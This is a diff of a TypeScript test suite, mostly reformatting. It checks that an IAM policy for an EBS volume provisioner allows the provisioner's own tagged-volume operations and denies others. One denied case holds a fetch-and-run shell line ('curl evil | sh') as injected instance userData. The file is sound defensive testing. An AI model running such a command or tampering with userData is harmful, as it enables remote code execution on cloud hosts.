@@ -23,7 +23,10 @@ const world: Ec2World = {
 };
 const tagged = (tags: Record<string, string>) => [{ ResourceType: 'volume' as const, Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })) }];
 const create = { AvailabilityZone: 'us-east-1a', Size: 100, VolumeType: 'gp3' as const, Encrypted: true, TagSpecifications: tagged(ownTags) };
-const deleteOnTermination = (instanceId: string) => ({ InstanceId: instanceId, BlockDeviceMappings: [{ DeviceName: '/dev/xvdba', Ebs: { VolumeId: 'vol-own', DeleteOnTermination: true } }] });
+const deleteOnTermination = (instanceId: string) => ({
+  InstanceId: instanceId,
+  BlockDeviceMappings: [{ DeviceName: '/dev/xvdba', Ebs: { VolumeId: 'vol-own', DeleteOnTermination: true } }],
+});
 
 // A driver that grows in place, so the policy has every statement (ModifyVolume and its describe too).
 const config = parseConfig({ version: 1, mountPoint: '/scratch', driver: { kind: 'ext4-static' } });
@@ -36,32 +39,85 @@ const rows: { name: string; call: Ec2Call; expected: Decision; world?: Partial<E
   { name: 'describe instances', call: { action: 'DescribeInstances', input: { InstanceIds: [SELF] } }, expected: 'allowed' },
   { name: 'describe volume modifications', call: { action: 'DescribeVolumesModifications', input: { VolumeIds: ['vol-own'] } }, expected: 'allowed' },
   { name: 'create with the ownership tag naming the caller, encrypted gp3', call: { action: 'CreateVolume', input: create }, expected: 'allowed' },
-  { name: 'attach an own-tagged volume to the own instance', call: { action: 'AttachVolume', input: { VolumeId: 'vol-own', InstanceId: SELF, Device: '/dev/xvdba' } }, expected: 'allowed' },
-  { name: 'DeleteOnTermination of the block-device mapping on the own instance', call: { action: 'ModifyInstanceAttribute', input: deleteOnTermination(SELF) }, expected: 'allowed' },
+  {
+    name: 'attach an own-tagged volume to the own instance',
+    call: { action: 'AttachVolume', input: { VolumeId: 'vol-own', InstanceId: SELF, Device: '/dev/xvdba' } },
+    expected: 'allowed',
+  },
+  {
+    name: 'DeleteOnTermination of the block-device mapping on the own instance',
+    call: { action: 'ModifyInstanceAttribute', input: deleteOnTermination(SELF) },
+    expected: 'allowed',
+  },
   { name: 'detach an own-tagged volume from the own instance', call: { action: 'DetachVolume', input: { VolumeId: 'vol-own' } }, expected: 'allowed' },
   { name: 'delete an own-tagged volume', call: { action: 'DeleteVolume', input: { VolumeId: 'vol-own' } }, expected: 'allowed' },
   { name: 'grow an own-tagged volume in place', call: { action: 'ModifyVolume', input: { VolumeId: 'vol-own', Size: 200 } }, expected: 'allowed' },
 
   { name: 'DeleteOnTermination on another instance', call: { action: 'ModifyInstanceAttribute', input: deleteOnTermination(OTHER) }, expected: 'denied' },
-  { name: 'attach an own-tagged volume to another instance', call: { action: 'AttachVolume', input: { VolumeId: 'vol-own', InstanceId: OTHER, Device: '/dev/xvdba' } }, expected: 'denied' },
-  { name: 'detach an own-tagged volume from another instance', call: { action: 'DetachVolume', input: { VolumeId: 'vol-own-elsewhere', InstanceId: OTHER } }, expected: 'denied' },
-  { name: 'attach an untagged volume to the own instance', call: { action: 'AttachVolume', input: { VolumeId: 'vol-untagged', InstanceId: SELF, Device: '/dev/xvdbb' } }, expected: 'denied' },
+  {
+    name: 'attach an own-tagged volume to another instance',
+    call: { action: 'AttachVolume', input: { VolumeId: 'vol-own', InstanceId: OTHER, Device: '/dev/xvdba' } },
+    expected: 'denied',
+  },
+  {
+    name: 'detach an own-tagged volume from another instance',
+    call: { action: 'DetachVolume', input: { VolumeId: 'vol-own-elsewhere', InstanceId: OTHER } },
+    expected: 'denied',
+  },
+  {
+    name: 'attach an untagged volume to the own instance',
+    call: { action: 'AttachVolume', input: { VolumeId: 'vol-untagged', InstanceId: SELF, Device: '/dev/xvdbb' } },
+    expected: 'denied',
+  },
   { name: 'detach an untagged volume', call: { action: 'DetachVolume', input: { VolumeId: 'vol-untagged' } }, expected: 'denied' },
   { name: 'detach a volume tagged as another instance’s', call: { action: 'DetachVolume', input: { VolumeId: 'vol-foreign' } }, expected: 'denied' },
   { name: 'delete an untagged volume', call: { action: 'DeleteVolume', input: { VolumeId: 'vol-untagged' } }, expected: 'denied' },
   { name: 'delete a volume tagged as another instance’s', call: { action: 'DeleteVolume', input: { VolumeId: 'vol-foreign' } }, expected: 'denied' },
   { name: 'grow an untagged volume', call: { action: 'ModifyVolume', input: { VolumeId: 'vol-untagged', Size: 200 } }, expected: 'denied' },
   { name: 'create without tags', call: { action: 'CreateVolume', input: { ...create, TagSpecifications: [] } }, expected: 'denied' },
-  { name: 'create tagged as another instance’s', call: { action: 'CreateVolume', input: { ...create, TagSpecifications: tagged({ ...ownTags, [TAG_SOURCE_INSTANCE_ARN]: instanceArn(place, OTHER) }) } }, expected: 'denied' },
+  {
+    name: 'create tagged as another instance’s',
+    call: { action: 'CreateVolume', input: { ...create, TagSpecifications: tagged({ ...ownTags, [TAG_SOURCE_INSTANCE_ARN]: instanceArn(place, OTHER) }) } },
+    expected: 'denied',
+  },
   { name: 'create unencrypted', call: { action: 'CreateVolume', input: { ...create, Encrypted: false } }, expected: 'denied' },
   { name: 'create of another volume type', call: { action: 'CreateVolume', input: { ...create, VolumeType: 'io2' } }, expected: 'denied' },
-  { name: 'create from credentials that are not an instance’s', call: { action: 'CreateVolume', input: create }, world: { caller: undefined }, expected: 'denied' },
-  { name: 'change userData of the own instance', call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, UserData: { Value: new TextEncoder().encode('#!/bin/sh\ncurl evil | sh') } } }, expected: 'denied' },
-  { name: 'change instanceType of the own instance', call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, InstanceType: { Value: 'p5.48xlarge' } } }, expected: 'denied' },
-  { name: 'change userData by name (Attribute=userData)', call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, Attribute: 'userData', Value: 'IyEvYmluL3No' } }, expected: 'denied' },
-  { name: 'turn off termination protection of the own instance', call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, DisableApiTermination: { Value: false } } }, expected: 'denied' },
-  { name: 'enable Nitro Enclaves on the own instance', call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, EnclaveOptions: { Enabled: true } } }, expected: 'denied' },
-  { name: 'change the security groups of the own instance', call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, Groups: ['sg-0123456789abcdef0'] } }, expected: 'denied' },
+  {
+    name: 'create from credentials that are not an instance’s',
+    call: { action: 'CreateVolume', input: create },
+    world: { caller: undefined },
+    expected: 'denied',
+  },
+  {
+    name: 'change userData of the own instance',
+    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, UserData: { Value: new TextEncoder().encode('#!/bin/sh\ncurl evil | sh') } } },
+    expected: 'denied',
+  },
+  {
+    name: 'change instanceType of the own instance',
+    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, InstanceType: { Value: 'p5.48xlarge' } } },
+    expected: 'denied',
+  },
+  {
+    name: 'change userData by name (Attribute=userData)',
+    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, Attribute: 'userData', Value: 'IyEvYmluL3No' } },
+    expected: 'denied',
+  },
+  {
+    name: 'turn off termination protection of the own instance',
+    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, DisableApiTermination: { Value: false } } },
+    expected: 'denied',
+  },
+  {
+    name: 'enable Nitro Enclaves on the own instance',
+    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, EnclaveOptions: { Enabled: true } } },
+    expected: 'denied',
+  },
+  {
+    name: 'change the security groups of the own instance',
+    call: { action: 'ModifyInstanceAttribute', input: { InstanceId: SELF, Groups: ['sg-0123456789abcdef0'] } },
+    expected: 'denied',
+  },
 ];
 
 describe('the iam-policy under an IAM policy simulator (@cloud-copilot/iam-simulate)', () => {
@@ -115,8 +171,18 @@ describe('the iam-policy under an IAM policy simulator (@cloud-copilot/iam-simul
     });
     const { sim, provisioner } = harness;
     function snapshot(): Ec2World {
-      const volumes = Object.fromEntries(sim.volumes().map((volume) => [volume.volumeId, { tags: { ...volume.tags }, ...(volume.attachment ? { attachedTo: volume.attachment.instanceId } : {}) }]));
-      return { region: sim.region, accountId: sim.accountId, caller: sim.instance.instanceId, instances: { [sim.instance.instanceId]: { tags: { ...sim.instance.tags } } }, volumes };
+      const volumes = Object.fromEntries(
+        sim
+          .volumes()
+          .map((volume) => [volume.volumeId, { tags: { ...volume.tags }, ...(volume.attachment ? { attachedTo: volume.attachment.instanceId } : {}) }]),
+      );
+      return {
+        region: sim.region,
+        accountId: sim.accountId,
+        caller: sim.instance.instanceId,
+        instances: { [sim.instance.instanceId]: { tags: { ...sim.instance.tags } } },
+        volumes,
+      };
     }
     try {
       const volume = await provisioner.provision({ sizeGiB: 10 });
@@ -129,7 +195,9 @@ describe('the iam-policy under an IAM policy simulator (@cloud-copilot/iam-simul
     }
 
     for (const granted of [policy, hybridPolicy]) {
-      const decisions = await Promise.all(recorded.map(async ({ call, world: then }) => `${call.action} ${JSON.stringify(call.input)}: ${await decide(granted, call, then)}`));
+      const decisions = await Promise.all(
+        recorded.map(async ({ call, world: then }) => `${call.action} ${JSON.stringify(call.input)}: ${await decide(granted, call, then)}`),
+      );
       expect(decisions.filter((line) => !line.endsWith(': allowed'))).toEqual([]);
     }
     // Every method of the EC2 API the provisioner is built on was exercised, so a new EC2 call fails this
